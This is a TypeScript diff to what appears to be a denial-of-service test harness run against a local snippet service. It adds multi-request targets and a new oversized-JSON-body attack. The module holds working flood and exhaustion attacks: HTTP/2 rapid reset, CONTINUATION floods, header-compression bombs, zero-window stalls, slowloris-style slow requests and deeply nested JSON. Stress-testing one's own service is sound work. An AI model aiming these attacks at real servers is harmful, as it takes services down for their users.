@@ -15,8 +15,8 @@ import { openTls } from "./sockets.ts";
 
 export interface Target {
   readonly port: number;
-  /** What the attack asks for where it asks for anything. */
-  readonly request: RawRequest;
+  /** What the attack asks for where it asks for anything. Those with large responses take turns with all of them, the others take the first. */
+  readonly requests: readonly [RawRequest, ...RawRequest[]];
   /** Connections at a time. */
   readonly connections: number;
   readonly isOver: () => boolean;
@@ -80,7 +80,7 @@ const forever =
 
 /** Requests that are canceled in the same breath, as many as a connection survives. */
 const rapidReset: Attack = (target) => {
-  const block = requestBlock(target.request);
+  const block = requestBlock(target.requests[0]);
   const resetsMax = 1_100;
   return onConnections(target, async (connection, count) => {
     for (let sent = 0; sent < resetsMax && !connection.isClosed; sent += batch) {
@@ -94,8 +94,9 @@ const rapidReset: Attack = (target) => {
 
 /** As many requests at a time as the service allows on a connection, each replaced as soon as it is answered. */
 const manyStreams: Attack = (target) => {
-  const block = requestBlock(target.request);
+  const block = requestBlock(target.requests[0]);
   const streamsMax = 256;
+  const responseBytes = 4_000;
   return onConnections(target, async (connection, count) => {
     let open = 0;
     let answered = 0;
@@ -107,7 +108,7 @@ const manyStreams: Attack = (target) => {
       count(free);
       await connection.send(
         ...Array.from({ length: free }, () => frames.headers(connection.nextStream(), block)),
-        frames.windowUpdate(0, 1_000_000),
+        frames.windowUpdate(0, free * responseBytes),
       );
       await connection.until(() => connection.answered.size > answered);
     }
@@ -122,7 +123,7 @@ const pings: Attack = (target) =>
 
 /** Each setting of the window concerns every open stream, so many are opened whose answers do not fit into a window of 0. */
 const settings: Attack = (target) => {
-  const block = requestBlock(target.request);
+  const block = requestBlock(target.requests[0]);
   return onConnections(
     target,
     async (connection, count) => {
@@ -140,13 +141,13 @@ const settings: Attack = (target) => {
 /** A header block that never ends. */
 const continuations: Attack = (target) =>
   onConnections(target, async (connection, count) => {
-    await connection.send(frames.headers(1, requestBlock(target.request), { isWhole: false }));
+    await connection.send(frames.headers(1, requestBlock(target.requests[0]), { isWhole: false }));
     await forever(target.isOver, () => frames.continuation(1, header("x-more", "m".repeat(1_000))))(connection, count);
   });
 
 /** Small header blocks that become large where they are decoded. */
 const headerBombs: Attack = (target) => {
-  const block = requestBlock(target.request);
+  const block = requestBlock(target.requests[0]);
   return onConnections(
     target,
     forever(target.isOver, (connection) =>
@@ -160,7 +161,7 @@ const headerBombs: Attack = (target) => {
 
 /** Requests whose answers are never taken: the window stays at 0. */
 const closedWindows: Attack = (target) => {
-  const block = requestBlock(target.request);
+  const block = requestBlock(target.requests[0]);
   return onConnections(
     target,
     async (connection, count) => {
@@ -207,7 +208,7 @@ const slowly =
       }
     });
 
-const headOf = ({ request: { key } }: Target, method: string, path: string, length?: number): string =>
+const headOf = ({ requests: [{ key }] }: Target, method: string, path: string, length?: number): string =>
   [
     `${method} ${path} HTTP/1.1`,
     "Host: localhost",
@@ -216,7 +217,7 @@ const headOf = ({ request: { key } }: Target, method: string, path: string, leng
     "",
   ].join("\r\n");
 
-const slowHeaders = slowly((target) => headOf(target, "GET", target.request.path), "X-More: m\r\n");
+const slowHeaders = slowly((target) => headOf(target, "GET", target.requests[0].path), "X-More: m\r\n");
 
 const slowBodies = slowly((target) => `${headOf(target, "POST", "/api/snippet", 60_000)}\r\n`, "x");
 
@@ -226,21 +227,43 @@ const silence: Attack = (target) =>
     while (!target.isOver() && !socket.destroyed) await Bun.sleep(100);
   });
 
-/** Bodies of brackets alone. */
-const deepJson: Attack = (target) => {
-  const body = Buffer.alloc(7 * 1024 * 1024, "[");
-  return onSockets(target, async (socket, damage) => {
-    socket.write(`${headOf(target, "POST", "/api/snippet", body.length)}\r\n`);
-    const answered = new Promise<void>((resolve) => {
-      socket.once("data", () => resolve());
-      socket.once("close", () => resolve());
+/** Each connection sends a body and waits for the response. */
+const posting =
+  (path: string, body: Buffer): Attack =>
+  (target) => {
+    const { requests } = target;
+    let next = 0;
+    return onSockets(target, async (socket, damage) => {
+      const request = requests[next % requests.length] ?? requests[0];
+      next += 1;
+      socket.write(`${headOf({ ...target, requests: [request] }, "POST", path, body.length)}\r\n`);
+      const answered = new Promise<void>((resolve) => {
+        socket.once("data", () => resolve());
+        socket.once("close", () => resolve());
+      });
+      socket.write(body);
+      damage.sent += 1;
+      await answered;
+      if (!socket.destroyed) damage.answered += 1;
     });
-    socket.write(body);
-    damage.sent += 1;
-    await answered;
-    if (!socket.destroyed) damage.answered += 1;
-  });
-};
+  };
+
+/** Bodies of brackets alone. */
+const deepJson = posting("/api/snippet", Buffer.alloc(7 * 1024 * 1024, "["));
+
+/** Bodies of almost full size that are refused only when they were parsed. One character makes each text take two bytes for each of them. */
+const largeBodies = posting(
+  "/api/snippets",
+  Buffer.from(
+    JSON.stringify({
+      snippets: Array(8).fill({
+        title: "Large",
+        content: { type: "plaintext", content: `${"x".repeat(999_000)}\u4e00` },
+        teamId: "00000000-0000-7000-8000-000000000000",
+      }),
+    }),
+  ),
+);
 
 /** Connections that do nothing but be made. */
 const handshakes: Attack = (target) => onSockets(target, async () => undefined);
@@ -258,5 +281,6 @@ export const attacks = {
   slowBodies,
   silence,
   deepJson,
+  largeBodies,
 } as const satisfies Record<string, Attack>;
 export type AttackName = keyof typeof attacks;
